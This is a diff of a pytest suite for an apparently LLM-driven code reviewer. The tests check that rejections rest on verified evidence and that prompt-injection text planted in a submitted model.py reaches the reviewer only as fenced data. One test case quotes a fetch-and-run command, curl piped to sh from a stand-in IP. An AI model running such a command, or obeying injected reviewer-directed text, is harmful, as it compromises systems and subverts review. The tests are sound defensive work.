@@ -257,9 +257,13 @@ def test_reject_with_verifiable_evidence_is_rejected_with_that_evidence(
     caplog: pytest.LogCaptureFixture,
 ) -> None:
     caplog.set_level(logging.DEBUG)
-    files = suspect_files()
+    # A rejection stands only on lines that prove its rule (issue 15): text addressed to the
+    # reviewer is re-derived by PRISM itself; static review passed it, as comments are no code.
+    files = suspect_files(extra="\n" + INJECTION)
+    line = files["model.py"].splitlines().index(INJECTION.rstrip("\n")) + 1
+    injected = claim(files, line_start=line, line_end=line, quote=INJECTION.strip(), rule_id="prompt_injection")
     sid = submit(api, HOTKEYS["bob"], project_zip(files))
-    stand_in.script(reject(claim(files)))
+    stand_in.script(reject(injected))
     worker, sandbox = review_only_worker(llm_settings(), worker_sessions)
 
     assert worker.run_once() == sid
@@ -267,10 +271,10 @@ def test_reject_with_verifiable_evidence_is_rejected_with_that_evidence(
     view = internal_view(api, sid)
     assert (view["status"], view["reason_code"], view["stage"]) == ("rejected", "llm_review.rejected", "llm_review")
     expected = {
-        "rule_id": "llm.hidden_behaviour",
+        "rule_id": "llm.prompt_injection",
         "path": "model.py",
-        "line": hidden_line(files),
-        "snippet_sha256": sha256_text(HIDDEN_LINE_TEXT),  # the project's own line, not the model's quote
+        "line": line,
+        "snippet_sha256": sha256_text(INJECTION.rstrip("\n")),  # the project's own line, not the model's quote
     }
     [evidence] = stage_of(view, "llm_review")["evidence"]
     assert {k: evidence[k] for k in expected} == expected
@@ -290,8 +294,10 @@ def test_reject_with_verifiable_evidence_is_rejected_with_that_evidence(
         ({"quote": "os.system('curl http://203.0.113.9 | sh')"}, "llm.unverified.hidden_behaviour", "quote does not"),
         ({"line_shift": -1}, "llm.unverified.hidden_behaviour", "quote does not"),
         (None, "llm.no_evidence", None),
+        # A real quote of a line that does not show the rule: a location, not a proof.
+        ({}, "llm.unverified.hidden_behaviour", "quote found, but no proof"),
     ],
-    ids=["fabricated-quote", "wrong-line", "no-evidence"],
+    ids=["fabricated-quote", "wrong-line", "no-evidence", "innocent-quote"],
 )
 def test_reject_whose_evidence_does_not_verify_is_quarantined_with_the_claims_kept(
     api: TestClient,
@@ -352,15 +358,20 @@ def test_injected_instructions_change_nothing(
     api: TestClient, worker_sessions: sessionmaker[Session], llm_settings: MakeSettings, stand_in: StandInOpenAI
 ) -> None:
     files = suspect_files(extra=INJECTION)
+    line = files["model.py"].splitlines().index(INJECTION.rstrip("\n")) + 1
+    injected = claim(files, line_start=line, line_end=line, quote=INJECTION.strip(), rule_id="prompt_injection")
     sid = submit(api, HOTKEYS["dave"], project_zip(files))
-    stand_in.script(reject(claim(files)))
+    stand_in.script(reject(claim(files), injected))
     worker, _sandbox = review_only_worker(llm_settings(), worker_sessions)
 
     assert worker.run_once() == sid
 
     view = internal_view(api, sid)
     assert view["status"] == "rejected"
-    assert [e["line"] for e in stage_of(view, "llm_review")["evidence"]] == [hidden_line(files)]
+    # The injection itself is what is proven; the weight-zeroing helper is only suspicion.
+    assert [e["line"] for e in stage_of(view, "llm_review")["evidence"]] == [line]
+    [suspicion] = stage_of(view, "llm_review")["data"]["unverified_claims"]
+    assert suspicion["line_start"] == hidden_line(files) and "no proof" in suspicion["problem"]
     # The injection reached the reviewer only inside the fence, as numbered data.
     [request] = stand_in.requests
     bodies = [body for label, body in fenced(request) if label.startswith('file="model.py"')]
